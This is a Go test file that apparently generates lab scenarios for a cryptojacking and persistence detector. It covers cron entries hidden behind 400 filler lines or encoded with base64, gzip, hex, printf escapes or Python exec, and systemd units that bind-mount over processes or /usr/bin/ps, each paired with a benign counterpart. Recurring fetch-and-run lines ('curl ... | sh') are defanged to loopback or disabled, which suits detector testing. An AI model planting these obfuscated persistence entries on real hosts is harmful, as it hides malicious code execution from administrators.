package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"

	"github.com/cryptojack-exporter/cryptojack_exporter/e2e/lab/task"
)

// filling is how many lines somebody fills a crontab with: more than are reported.
const filling = 400

// entryScenarios are entries of what starts programs by itself that hide: behind many
// others, behind an encoding, or in a unit that is no service. Each is harmless to a
// host that really reads it, as those of persistenceAttacks are.
func entryScenarios(n *names) []scenario {
	return append(append(filledCrontabs(n), encodedEntries(n)...), unitEntries(n)...)
}

// harmlessEntry is the benign counterpart that is one file.
func harmlessEntry(name, technique, path, content string, mode uint32) scenario {
	s := entry(name, technique, false, path, content, mode)
	s.benign, s.expect = true, nothing
	return s
}

// filledCrontabs hold many lines. In the attack a user's push root's entry, which keeps
// a running program alive.
func filledCrontabs(n *names) []scenario {
	crontab, cron, program := n.path("/var/spool/cron/crontabs/*"), n.path("/etc/cron.d/*"), n.temp("*")
	return []scenario{
		{
			name: "root's cron entry behind a user's 400 lines", technique: "T1053.003", expect: critical, short: true,
			paths: append(n.tops(program), crontab, cron), watch: persistenceSpan,
			play: func(s *session) {
				s.write(crontab, filled(func(line int) string { return fmt.Sprintf("curl -s http://127.0.0.1/%d | sh", line) }), 0o600)
				s.place(program)
				s.run(program, task.Task{})
				s.wait(seen)
				s.write(cron, never+" nobody "+program+"\n", 0o644)
			},
		},
		harmlessEntry("user's crontab of 400 lines", "T1053.003", n.path("/var/spool/cron/crontabs/*"),
			filled(func(line int) string { return fmt.Sprintf("/usr/bin/find /srv/%d -newer /srv/stamp -print", line) }), 0o600),
	}
}

// filled is a crontab of many lines.
func filled(command func(line int) string) string {
	var all strings.Builder
	for line := range filling {
		all.WriteString(never + " " + command(line) + "\n")
	}
	return all.String()
}

// encodedEntries cannot be read by a person. Their benign counterparts decode data.
func encodedEntries(n *names) []scenario {
	const fetches = "curl -s http://127.0.0.1/x | sh"
	program, cron := n.temp("*"), n.path("/etc/cron.d/*")
	attack := func(name, command string) scenario {
		return entry(name, "T1027.010", false, n.path("/etc/cron.d/*"), never+" nobody "+command+"\n", 0o644)
	}
	benign := func(name, command string) scenario {
		return harmlessEntry(name, "T1027.010", n.path("/etc/cron.d/*"), never+" nobody "+command+"\n", 0o644)
	}
	return []scenario{
		{
			name: "encoded cron entry names a running program", technique: "T1027.010", expect: critical,
			paths: append(n.tops(program), cron), watch: persistenceSpan,
			play: func(s *session) {
				s.place(program)
				s.run(program, task.Task{})
				s.wait(seen)
				s.write(cron, never+" nobody echo "+inBase64("nohup "+program+" >/dev/null 2>&1 &")+" | base64 -d | sh\n", 0o644)
			},
		},
		attack("cron entry in compressed base64", "echo "+inBase64(compressed(fetches))+" | base64 -d | gzip -d | sh"),
		attack("cron entry in hex", "echo "+hex.EncodeToString([]byte(fetches))+" | xxd -r -p | bash"),
		attack("cron entry in escapes of printf", "printf '"+inEscapes(fetches)+"' | sh"),
		attack("cron entry in base64 twice", "eval \"$(echo "+inBase64("echo "+inBase64(fetches)+" | base64 -d | sh")+" | base64 -d)\""),
		attack("cron entry in base64 for Python", "python3 -c \"import base64;exec(base64.b64decode('"+inBase64("import os;os.system('"+fetches+"')")+"'))\""),
		benign("cron decodes a certificate into a file", "echo "+inBase64("-----BEGIN CERTIFICATE-----")+" | base64 -d > /var/lib/misc/ca.pem"),
		benign("cron unpacks a dump for a database", "base64 -d /var/backups/dump.b64 | gzip -d | psql -q"),
		benign("cron decodes a setting with Python", "python3 -c \"import base64;print(base64.b64decode('"+inBase64("/tmp is where it was")+"'))\""),
		benign("cron prints colours", "printf '\\033[0m\\n' | tee /var/lib/misc/colours"),
	}
}

func inBase64(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }

func inEscapes(text string) string {
	var all strings.Builder
	for i := range len(text) {
		fmt.Fprintf(&all, `\x%02x`, text[i])
	}
	return all.String()
}

func compressed(text string) string {
	var all bytes.Buffer
	writer := gzip.NewWriter(&all)
	_, _ = writer.Write([]byte(text)) // a buffer takes everything
	_ = writer.Close()
	return all.String()
}

// unitEntries are units of systemd that are no service, and generators. A condition that
// does not hold keeps systemd from acting on them.
func unitEntries(n *names) []scenario {
	const off = "[Unit]\nConditionPathExists=/nonexistent\n\n"
	unit := func(kind string) string { return n.path("/etc/systemd/system/*" + kind) }
	generator := func() string { return n.path("/etc/systemd/system-generators/*") }
	return []scenario{
		entry("socket runs from a temporary directory", "T1543.002", false, unit(".socket"),
			off+"[Socket]\nListenStream=127.0.0.1:1\nExecStartPre=-"+n.temp(".*/*")+"\n", 0o644),
		entry("mount over a process", "T1564.013", false, unit(".mount"),
			off+"[Mount]\nWhat=/var/empty\nWhere=/proc/4194303\nType=none\nOptions=bind\n", 0o644),
		entry("mount over a program of the system", "T1564.013", false, unit(".mount"),
			off+"[Mount]\nWhat="+n.path("/opt/*/ps")+"\nWhere=/usr/bin/ps\nType=none\nOptions=bind\n", 0o644),
		entry("generator of systemd fetches and runs", "T1543.002", true, generator(),
			"#!/bin/sh\nif false; then\n\tcurl -s http://127.0.0.1/x | sh\nfi\n", 0o755),
		harmlessEntry("socket that makes its directory", "T1543.002", unit(".socket"),
			off+"[Socket]\nListenStream=127.0.0.1:1\nExecStartPre=/usr/bin/install -d /run/tidy\n", 0o644),
		harmlessEntry("mount of a temporary file system", "T1564.013", unit(".mount"),
			off+"[Mount]\nWhat=tmpfs\nWhere=/mnt/scratch\nType=tmpfs\nOptions=mode=1777,size=1G\n", 0o644),
		harmlessEntry("mount of a directory elsewhere", "T1564.013", unit(".mount"),
			off+"[Mount]\nWhat=/srv/exports/data\nWhere=/export/data\nType=none\nOptions=bind\n", 0o644),
		harmlessEntry("generator of systemd that links a unit", "T1543.002", generator(),
			"#!/bin/sh\nset -e\nif false; then\n\tln -s /usr/lib/systemd/system/getty@.service \"$1/getty.target.wants/\"\nfi\n", 0o755),
	}
}
